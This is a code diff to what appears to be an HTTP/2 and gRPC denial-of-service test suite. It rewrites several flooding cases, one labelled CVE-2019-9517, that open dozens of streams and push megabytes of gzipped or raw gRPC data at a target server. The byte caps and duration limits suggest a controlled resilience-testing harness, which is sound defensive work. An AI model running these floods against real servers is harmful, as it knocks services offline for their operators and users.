@@ -9,6 +9,7 @@ import {
   FrameType,
   headers,
   join,
+  repeat,
   rstStream,
   Setting,
   uint32,
@@ -189,7 +190,7 @@ export const http2Streams: AttackGroup = {
       title: "Converse of 1 MiB names on 128 streams whose answers are not taken (CVE-2019-9517)",
       maxBytes: 64 * MIB,
       run: async (target) => {
-        const turn = gzipEnvelope(lengthDelimited(1, "x".repeat(MIB)));
+        const turns = repeat(gzipEnvelope(lengthDelimited(1, "x".repeat(MIB))), 100);
         await onEach(4, async () => {
           const http2 = await Http2Wire.connect(target, {
             takesAnswers: false,
@@ -199,8 +200,7 @@ export const http2Streams: AttackGroup = {
           await http2.wire.send(
             join(...ids.map((id) => headers(id, callBlock(`${GREETER}/Converse`, "application/grpc", GZIP)))),
           );
-          let index = 0;
-          await http2.wire.flood(target, () => dataFrames(ids[index++ % ids.length]!, turn, false));
+          await Promise.all(ids.map((id) => http2.sendData(target, id, turns)));
         });
       },
     },
@@ -210,15 +210,13 @@ export const http2Streams: AttackGroup = {
       maxBytes: 600 * MIB,
       durationMs: 3000,
       run: async (target) => {
-        const piece = new Uint8Array(16_384);
+        const content = new Uint8Array(3_900_000);
         await onEach(4, async () => {
           const http2 = await Http2Wire.connect(target);
           const head = envelope(EMPTY, 0, ALMOST_4_MIB);
           const ids = Array.from({ length: 64 }, () => http2.takeStreamId());
           await http2.wire.send(join(...ids.map((id) => join(headers(id, callBlock(SAY_HELLO)), data(id, head)))));
-          for (let round = 0; round < 240 && !isOver(target) && !http2.isClosed; round++) {
-            await Promise.race([http2.wire.send(join(...ids.map((id) => data(id, piece)))), waitForEnd(target)]);
-          }
+          await Promise.all(ids.map((id) => http2.sendData(target, id, content)));
         });
         await waitForEnd(target);
       },
@@ -229,14 +227,12 @@ export const http2Streams: AttackGroup = {
       maxBytes: 300 * MIB,
       durationMs: 3000,
       run: async (target) => {
-        const piece = new Uint8Array(16_384);
+        const content = new Uint8Array(3_900_000);
         await onEach(4, async () => {
           const http2 = await Http2Wire.connect(target);
           const ids = Array.from({ length: 32 }, () => http2.takeStreamId());
           await http2.wire.send(join(...ids.map((id) => headers(id, callBlock(SAY_HELLO, "application/proto")))));
-          for (let round = 0; round < 240 && !isOver(target) && !http2.isClosed; round++) {
-            await Promise.race([http2.wire.send(join(...ids.map((id) => data(id, piece)))), waitForEnd(target)]);
-          }
+          await Promise.all(ids.map((id) => http2.sendData(target, id, content)));
         });
         await waitForEnd(target);
       },
